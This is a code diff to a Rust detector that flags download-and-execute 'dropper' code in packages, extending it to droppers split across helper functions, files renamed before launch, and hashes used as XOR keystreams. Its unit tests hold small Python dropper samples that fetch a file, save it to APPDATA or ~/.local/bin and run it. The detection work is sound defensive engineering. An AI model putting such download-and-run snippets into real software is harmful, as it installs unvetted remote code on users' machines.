@@ -9,7 +9,10 @@
 //! (TNT003) are left to it.
 
 use super::taint::{flows, FlowKind};
-use super::write_run::{names_file, runs_program, writes, Key, MAX_SEGMENT_BYTES};
+use super::write_run::{
+    helper_runs, helper_writes, moved_writes, names_file, run_helpers, runs_program, writes, Key,
+    MAX_SEGMENT_BYTES,
+};
 use super::FileDetector;
 use crate::ascii_classes::ascii_regex;
 use crate::matchers::{Hit, HitDetail};
@@ -53,8 +56,13 @@ static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
 });
 #[allow(clippy::expect_used)]
 static PINNED_DIGEST: LazyLock<Regex> = LazyLock::new(|| {
-    ascii_regex(r"(?i)\bhashlib\b|createHash\s*\(|\bsha256\b|\bchecksum\b|hexdigest\s*\(")
-        .expect("digest pattern")
+    // A digest *compared* with something: a keystream or a cache key built from `hashlib` checks nothing.
+    ascii_regex(concat!(
+        r"(?i)(?:hexdigest|digest)\s*\([^)\n]{0,20}\)[^\n]{0,40}?(?:!=|==)",
+        r"|(?:!=|==)[^\n]{0,120}?(?:hexdigest|digest)\s*\(",
+        r"|\bcompare_digest\s*\(|\bsha256sum\b|\bchecksum\b"
+    ))
+    .expect("digest pattern")
 });
 /// String prefixes (`f"`, `rb'`) dropped before a command is read word by word.
 #[allow(clippy::expect_used)]
@@ -110,6 +118,8 @@ const LAUNCHERS: &[&str] = &[
     "ruby",
     "wscript",
     "cscript",
+    // `[str(path)]`: the path made a string.
+    "str",
 ];
 /// The running interpreter, as a launcher of a saved script: counted only in install-time code.
 const INTERPRETER: &[&str] = &["sys.executable", "executable"];
@@ -149,6 +159,8 @@ const PATH_BUILDERS: &[&str] = &[
     "os",
     "temp",
     "appdata",
+    // .NET's `[System.IO.Path]::Combine($env:TEMP, 'x.exe')` in a PowerShell command line.
+    "combine",
 ];
 
 fn report_droppers(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
@@ -179,7 +191,18 @@ fn report(segment: &Segment, text: &str, interpreter: bool, keep: &mut dyn FnMut
     let Some(first_download) = written.into_iter().chain(aliased).min() else {
         return;
     };
-    let saved = writes(body, all);
+    let mut saved = writes(body, all);
+    // A helper that saves to the path its caller gives, and one that starts the path it is given: the
+    // dropper split over `download(url, dest)` and `launch(dest)` (plain dropper only).
+    let helpers = if interpreter {
+        Vec::new()
+    } else {
+        let by_helpers = helper_writes(body, all, &saved);
+        saved.extend(by_helpers);
+        let moved = moved_writes(body, all, &saved);
+        saved.extend(moved);
+        run_helpers(body, all)
+    };
     let mut reported = std::collections::HashSet::new();
     for write in &saved {
         // A literal written to the file is code the package carries (the stager's business).
@@ -189,10 +212,16 @@ fn report(segment: &Segment, text: &str, interpreter: bool, keep: &mut dyn FnMut
         let runs = all.iter().filter(|c| {
             c.start > write.at
                 && (write.downloads || first_download < c.start)
-                && runs_program(&c.name)
+                && (runs_program(&c.name) || helpers.iter().any(|(name, _)| c.name == *name))
         });
         for run in runs {
-            let found = if interpreter {
+            let by_helper = !runs_program(&run.name);
+            let found = if by_helper {
+                write
+                    .keys
+                    .iter()
+                    .find(|k| helper_runs(run, &helpers, std::slice::from_ref(*k)))
+            } else if interpreter {
                 let plain = |k: &&Key| runs_as_program(&run.args, k, false);
                 let between = body.get(write.at..run.start).unwrap_or("");
                 if write.keys.iter().any(|k| plain(&k)) || DEFINITION.is_match(between) {
@@ -249,7 +278,7 @@ fn report(segment: &Segment, text: &str, interpreter: bool, keep: &mut dyn FnMut
 
 /// Whether the command `args` runs the file `key` names as its program; with `interpreter`, the running
 /// interpreter (`sys.executable`) is a launcher too.
-fn runs_as_program(args: &str, key: &Key, interpreter: bool) -> bool {
+pub(crate) fn runs_as_program(args: &str, key: &Key, interpreter: bool) -> bool {
     let plain = STRING_PREFIX.replace_all(args, "$1");
     let words = plain
         .split(|c: char| {
@@ -363,6 +392,43 @@ mod tests {
         assert!(fired(argument, Language::Python, "sync.py").is_empty());
         let pinned = "import hashlib, subprocess, urllib.request\nurllib.request.urlretrieve(u, 'tool')\nif hashlib.sha256(open('tool','rb').read()).hexdigest() != PIN: raise SystemExit\nsubprocess.run(['./tool', '--version'])";
         assert!(fired(pinned, Language::Python, "build.py").is_empty());
+    }
+
+    #[test]
+    fn a_dropper_split_over_a_save_helper_and_a_launch_helper_fires() {
+        let split = "import os, requests, subprocess\ndef fetch_to(url, dest):\n    r = requests.get(url)\n    with open(dest, 'wb') as f:\n        f.write(r.content)\ndef launch(path):\n    subprocess.run([path], check=True)\ndef main():\n    target = os.path.join(os.getenv('APPDATA'), 'svc.exe')\n    fetch_to(URL, target)\n    launch(target)\n";
+        assert_eq!(fired(split, Language::Python, "pkg/loader.py").len(), 1);
+        // The helper saves a report that another helper only prints.
+        let report = "import requests\ndef fetch_to(url, dest):\n    with open(dest, 'wb') as f:\n        f.write(requests.get(url).content)\ndef show(path):\n    print(open(path).read())\nfetch_to(URL, 'report.txt')\nshow('report.txt')\n";
+        assert!(fired(report, Language::Python, "pkg/report.py").is_empty());
+    }
+
+    #[test]
+    fn a_download_moved_before_it_is_started_or_saved_through_path_fires() {
+        let moved = "import os, requests\nfrom pathlib import Path\nr = requests.get(URL)\nopen('u.exe', 'wb').write(r.content)\nPath(r'u.exe').rename(r'C:\\Temp\\svc-host.exe')\nos.startfile(r'C:\\Temp\\svc-host.exe')\n";
+        assert_eq!(fired(moved, Language::Python, "setup.py").len(), 1);
+        let helper = "import requests, subprocess\nfrom pathlib import Path\ndef fetch(url, name):\n    reply = requests.get(url)\n    path = Path(name)\n    path.write_bytes(reply.content)\n    return path\ndef start(p):\n    subprocess.run([str(p)], check=False)\nsaved = fetch(URL, 'tool.exe')\nstart(saved)\n";
+        assert_eq!(fired(helper, Language::Python, "pkg/installer.py").len(), 1);
+        // Moved into a folder an archiver reads: nothing starts it.
+        let archived = "import shutil, requests\nopen('a.bin', 'wb').write(requests.get(URL).content)\nshutil.move('a.bin', 'out/a.bin')\nshutil.make_archive('out', 'zip', 'out')\n";
+        assert!(fired(archived, Language::Python, "tools/pack.py").is_empty());
+    }
+
+    #[test]
+    fn a_hash_used_as_a_keystream_is_no_pinned_digest() {
+        // `hashlib` derives the XOR key of the download; nothing compares a digest of the saved file.
+        let keystream = "import hashlib, os, requests, subprocess\ndef stream(seed):\n    while True:\n        seed = hashlib.sha3_512(seed).digest()\n        yield from seed\nbuf = requests.get(URL).content\nout = bytes(b ^ k for b, k in zip(buf, stream(SEED)))\npath = os.path.expanduser('~/.local/bin/helper')\nwith open(path, 'wb') as f:\n    f.write(out)\nsubprocess.Popen([path])";
+        let taint_reports = segment_file(keystream, Language::Python, "setup.py")
+            .iter()
+            .any(|s| {
+                flows(s, keystream)
+                    .flows
+                    .iter()
+                    .any(|f| f.kind == FlowKind::DownloadToExec)
+            });
+        assert!(taint_reports || fired(keystream, Language::Python, "setup.py").len() == 1);
+        let compared = "import hashlib, subprocess, urllib.request\nurllib.request.urlretrieve(u, 'tool')\nexpected = PIN\nif expected == hashlib.sha256(open('tool', 'rb').read()).hexdigest():\n    subprocess.run(['./tool'])";
+        assert!(fired(compared, Language::Python, "build.py").is_empty());
     }
 
     #[test]
